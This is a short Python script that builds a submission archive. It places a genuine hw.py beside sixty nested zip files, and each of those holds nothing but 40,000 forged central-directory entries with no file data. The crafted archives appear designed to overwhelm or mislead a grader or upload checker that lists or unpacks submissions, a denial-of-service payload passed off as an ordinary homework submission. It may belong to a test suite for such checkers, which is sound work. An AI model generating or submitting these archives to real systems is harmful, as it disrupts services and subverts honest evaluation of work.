"""Makes this submission: honest code in a zip beside zips that hold nothing but lists of contents."""
import struct, zipfile
def entry(i): return struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, *[0] * 8, 4, *[0] * 6) + b"%04x" % i
held = b"".join(map(entry, range(40000)))
held += struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 40000, 40000, len(held), 0, 0)
with zipfile.ZipFile("submission.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.write("../c01_honest/hw.py", "hw.py")
    for i in range(60): z.writestr("lists/%02d.zip" % i, held)
